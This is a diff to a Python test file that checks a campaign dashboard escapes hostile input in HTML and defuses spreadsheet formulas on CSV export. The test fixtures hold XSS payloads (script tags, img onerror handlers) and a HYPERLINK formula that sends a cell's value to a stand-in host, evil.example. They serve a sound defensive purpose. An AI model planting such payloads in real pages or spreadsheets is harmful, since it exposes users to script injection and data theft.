@@ -9,6 +9,7 @@ variant names are formulas too.
 from __future__ import annotations
 
 import csv
+import html
 import io
 import json
 from collections.abc import AsyncIterator
@@ -43,7 +44,8 @@ HOSTILE_REASON = (
     '=HYPERLINK("https://evil.example/?"&A1,"Click")<img src=x onerror=alert(1)>'
     "\x1b[2J\x1b]0;pwned\x07\u202e" + "A" * 1_000_000
 )
-VARIANTS = ("=1+2", "@SUM(A1)")
+VARIANTS = ('=1+2<img src=v onerror="alert(2)">', "@SUM(A1)</td><script>alert(3)</script>")
+TITLE = "<script>alert('title')</script> & more"
 
 
 @pytest.fixture
@@ -76,7 +78,7 @@ async def test_a_hostile_answer_is_stored_and_reported_as_capped_text(
         "name": "C",
         "app": "shop",
         "audience": {"all": True},
-        "message": {"title": "Hi"},
+        "message": {"title": TITLE},
         "variants": [{"name": VARIANTS[0], "percent": 50}, {"name": VARIANTS[1], "percent": 50}],
     }
     create_campaign(ws, spec_from_dict(doc))
@@ -105,8 +107,10 @@ async def test_a_hostile_answer_is_stored_and_reported_as_capped_text(
     data = dashboard_data(ws, "C")
     page = render_html(data, {})
     assert "<img src=x" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
+    assert "<script" not in page and "<img src=v" not in page
     for name in VARIANTS:
-        assert name in page  # as text (no markup characters in these names)
+        assert html.escape(name) in page or html.escape(name, quote=False) in page
+    assert html.escape(TITLE, quote=False) in page or html.escape(TITLE) in page
 
     # Exported: formulas defused, and read back to exactly what was stored.
     per_device = io.StringIO()
